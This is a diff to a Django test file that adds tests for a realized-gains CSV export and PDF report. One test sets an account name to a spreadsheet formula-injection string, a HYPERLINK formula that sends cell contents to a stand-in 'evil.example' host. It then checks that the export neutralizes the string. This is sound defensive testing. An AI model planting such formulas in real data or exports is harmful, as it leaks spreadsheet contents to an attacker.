@@ -15,6 +15,7 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from rest_framework.test import APIClient
 
+from accounts.models import Account
 from portfolios.lots.selectors import realized_gains_report
 from tests.lots.test_trades import opening, trade
 
@@ -262,3 +263,33 @@ def test_form8949_command_line_on_a_small_file(tmp_path):
     assert run.returncode != 0
     assert run.stdout == ""
     assert "row 2" in run.stderr and "holds only 10" in run.stderr
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_the_realized_gains_csv_neutralizes_formulas_and_keeps_negative_amounts(client, year_2026):
+    Account.objects.filter(pk=year_2026.a.account.pk).update(name=HOSTILE_NAME)
+    client.force_login(year_2026.a.advisor)
+    url = reverse("realized-gains-csv", kwargs={"public_id": year_2026.a.client.public_id})
+    text = client.get(url, {"year": 2026}).content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + HOSTILE_NAME in cells
+    assert "-300.00" in cells and "-90.00" in cells  # losses stay numeric
+    for cell in cells:
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            float(cell)  # only a plain number may start so
+
+
+def test_report_pdf_names_the_firm_advisor_and_household(client, year_2026, tmp_path):
+    a = year_2026.a
+    client.force_login(a.advisor)
+    url = reverse("realized-gains-pdf", kwargs={"public_id": a.client.public_id})
+    pdf = tmp_path / "r.pdf"
+    pdf.write_bytes(client.get(url, {"year": 2026}).content)
+    text = subprocess.run(
+        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
+    ).stdout
+    assert f"Household: {a.client.name}" in text
+    assert f"firm: {a.firm.name}" in text and f"advisor: {a.advisor.display_name}" in text
+    assert "amounts in US dollars" in text
